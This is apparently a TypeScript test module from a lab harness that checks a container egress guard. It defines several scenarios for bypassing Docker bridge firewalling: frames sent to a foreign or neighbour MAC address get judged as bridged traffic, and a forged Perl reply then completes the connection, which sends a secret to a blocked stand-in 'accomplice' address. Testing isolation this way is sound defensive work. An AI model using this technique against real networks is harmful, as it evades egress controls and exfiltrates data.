import { setTimeout as sleep } from 'node:timers/promises'
import type { Attack } from './attack.ts'
import type { Attacker } from './attacker.ts'
import { setBridgeNetfilter } from './bridge-netfilter.ts'
import { describeFrames } from './describe.ts'
import { frame } from './frame.ts'
import { datagram } from './packet.ts'
import { type Scene, SEALED } from './scene.ts'

/** On the internet, and in `never`, so that nothing may reach it whatever else is allowed. */
const ACCOMPLICE = { 4: '203.0.113.66', 6: '2001:db8:f::66' } as const
const NOBODY = '02:00:00:00:00:99'
const PACKETS = 20
const [OWN_PORT, FAR_PORT] = [4100, 4200]

interface Opener {
  readonly name: string
  readonly words: string
  readonly family: 4 | 6
  readonly engines?: Attack['engines']
  readonly quick?: true
  /** The hardware address to which the first frame goes, so that the bridge passes it from port to port. */
  readonly to: 'nobody' | 'neighbour'
  readonly options: Readonly<Record<string, string>>
}

/**
 * Where bridged frames pass iptables, a frame to a hardware address of the bridge that is not its own is judged as bridged, whatever its IP
 * destination. What is approved makes a connection; one packet of the far end makes it established; then the rest goes by the gateway.
 */
const opener = ({ name, words, family, engines, quick, to, options }: Opener): Attack => ({
  name,
  seat: 'container',
  words,
  shows: 'a connection that was approved as bridged goes out by the gateway',
  ...(engines ? { engines } : {}),
  ...(quick ? { quick } : {}),
  async play(scene) {
    await setBridgeNetfilter(scene, 1)
    const place = await scene.network('opener', { options })
    const attacker = await scene.attacker('opener', place)
    const neighbour = await scene.attacker('opener', place)
    await scene.guard(`${SEALED}never: [${ACCOMPLICE[4]}/32, "${ACCOMPLICE[6]}/128"]\n`)
    await answersFromOutside(scene, attacker, family)
    const far = await scene.farEnd()
    const ends = { src: attacker.own(family), dst: ACCOMPLICE[family] }
    const packet = datagram(ends, OWN_PORT, FAR_PORT, scene.secret)
    const bridged = frame(attacker.ethernet({ dst: to === 'nobody' ? NOBODY : neighbour.mac }), packet)
    const routed = frame(attacker.ethernet(), packet)
    const opened = await attacker.send([bridged])
    await sendFromInternet(scene, { src: ends.dst, dst: ends.src })
    await sleep(200)
    const sent = await attacker.send(Array<Buffer>(PACKETS).fill(routed), 200)
    const { count, first } = await far.count()
    return { sent: opened + sent, arrived: count, details: describeFrames(first) }
  },
})

/** The host knows the container's hardware address, as after any honest packet, so that it need not ask for it. */
async function answersFromOutside({ lab }: Scene, attacker: Attacker, family: 4 | 6): Promise<void> {
  const neighbour = ['lladdr', attacker.mac, 'dev', attacker.place.bridge, 'nud', 'permanent']
  await lab.host(['ip', 'neigh', 'replace', attacker.own(family), ...neighbour])
}

/** One datagram of the accomplice, from the address and port to which the container wrote. */
async function sendFromInternet(
  { lab }: Scene,
  ends: { readonly src: string; readonly dst: string },
): Promise<void> {
  const domain = ends.src.includes(':') ? 'PF_INET6' : 'PF_INET'
  await lab.internet([
    'perl',
    '-MSocket=:all',
    '-e',
    ANSWER,
    domain,
    ends.src,
    String(FAR_PORT),
    ends.dst,
    String(OWN_PORT),
  ])
}

const ANSWER = `
my ($domain, $src, $sport, $dst, $dport) = @ARGV;
my $six = $domain eq 'PF_INET6';
my $name = sub { $six ? pack_sockaddr_in6($_[1], inet_pton(AF_INET6, $_[0])) : pack_sockaddr_in($_[1], inet_pton(AF_INET, $_[0])) };
socket my $socket, $six ? PF_INET6 : PF_INET, SOCK_DGRAM, 0 or die "socket: $!";
setsockopt $socket, $six ? 41 : 0, $six ? 75 : 19, pack('i', 1) or die "transparent: $!";
bind $socket, $name->($src, $sport) or die "bind: $!";
send $socket, 'hello', 0, $name->($dst, $dport) or die "send: $!";
`

const PLAIN = { 'com.docker.network.bridge.enable_ip_masquerade': 'false' } as const
const ROUTED = { 'com.docker.network.bridge.gateway_mode_ipv6': 'routed', ...PLAIN } as const
const OPEN = { 'com.docker.network.bridge.gateway_mode_ipv4': 'nat-unprotected', ...PLAIN } as const

export const BRIDGED: readonly Attack[] = [
  opener({
    name: 'bridged-opener',
    words: 'the first packet to a hardware address that is nobody’s, where bridged frames pass iptables',
    family: 4,
    engines: ['20.10', '26.1'],
    quick: true,
    to: 'nobody',
    options: PLAIN,
  }),
  opener({
    name: 'bridged-opener-unprotected',
    words: 'the same on a network of mode nat-unprotected, to a neighbour',
    family: 4,
    engines: ['28.5'],
    to: 'neighbour',
    options: OPEN,
  }),
  opener({
    name: 'bridged-opener6',
    words: 'the same in IPv6, to a neighbour',
    family: 6,
    engines: ['20.10', '26.1'],
    to: 'neighbour',
    options: PLAIN,
  }),
  opener({
    name: 'bridged-opener6-routed',
    words: 'the same in IPv6 on a network of mode routed',
    family: 6,
    engines: ['28.5'],
    quick: true,
    to: 'nobody',
    options: ROUTED,
  }),
]
